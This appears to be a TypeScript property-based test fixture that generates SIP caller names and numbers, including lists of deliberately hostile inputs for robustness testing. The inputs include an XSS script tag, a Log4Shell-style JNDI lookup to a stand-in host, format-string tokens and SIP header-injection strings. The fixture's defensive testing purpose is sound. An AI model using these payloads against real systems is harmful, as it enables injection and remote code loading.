import { faker } from "@faker-js/faker/locale/en";
import * as fc from "fast-check";
import type { Call } from "../../harness/plan/plan.ts";

export type Caller = Call["caller"];

const plain: Caller = { name: "Alice Liddell", number: "+15550100" };

/** Display names a careless server trips over, each legal as a quoted-string (RFC 3261 25.1) once escaped. */
export const hostileNames: readonly string[] = [
  "",
  'Bob "the builder" Sawyer',
  "back\\slash\\",
  '\\"',
  "Zoë Müller-Łukasiewicz",
  "李小龍",
  "مرحبا",
  "📞🤙🏽",
  "a\u0301\u0323 combining",
  "<sip:mallory@evil.invalid>",
  "Alice <sip:alice@evil.invalid>;tag=x",
  '"><script>alert(1)</script>',
  "100% %s %n %00",
  "a, b; c: d = e",
  "${jndi:ldap://evil.invalid/a}",
  '{"aps":{}}',
  "null",
  "true",
  "0",
  "Anonymous",
  "x".repeat(300),
];

/** User parts with every kind of character the grammar allows unescaped, and escapes (RFC 3261 25.1 `user`). */
export const hostileNumbers: readonly string[] = [
  "o'neil",
  "*31*",
  "a;b=c",
  "a?b=c&d",
  "a/b,c$d",
  "(555)-0100!~",
  "user%20name",
  "%22quoted%22",
  "%23100%23",
  "null",
  "0",
  "n".repeat(80),
];

const ordinaryPerson: fc.Arbitrary<Caller> = fc.nat({ max: 0xffff }).map((seed) => {
  faker.seed(seed);
  return { name: faker.person.fullName(), number: faker.phone.number({ style: "international" }) };
});

const hostilePerson: fc.Arbitrary<Caller> = fc.record({
  name: fc.constantFrom(plain.name, ...hostileNames),
  number: fc.constantFrom(plain.number, ...hostileNumbers),
});

/** Who calls: mostly people, now and then somebody no server expects. Shrinks to Alice Liddell. */
export const person: fc.Arbitrary<Caller> = fc.oneof(
  { withCrossShrink: true },
  { weight: 2, arbitrary: fc.constant(plain) },
  { weight: 3, arbitrary: ordinaryPerson },
  { weight: 2, arbitrary: hostilePerson },
);
